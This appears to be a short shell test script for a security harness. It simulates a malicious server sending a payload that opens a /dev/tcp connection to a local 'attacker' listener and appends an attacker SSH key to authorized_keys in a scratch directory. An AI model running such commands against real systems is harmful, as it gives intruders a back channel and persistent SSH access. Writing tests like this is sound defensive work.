source "$(dirname "$0")/../lib.sh"
attacker=$(start_listener)
mkdir -p "$WORK/home/.ssh"
from_server "exec 3<>/dev/tcp/127.0.0.1/$attacker; echo pwned >&3; echo 'ssh-ed25519 AAAAC3Nz eval@attacker' >> '$WORK/home/.ssh/authorized_keys'"
mark_end
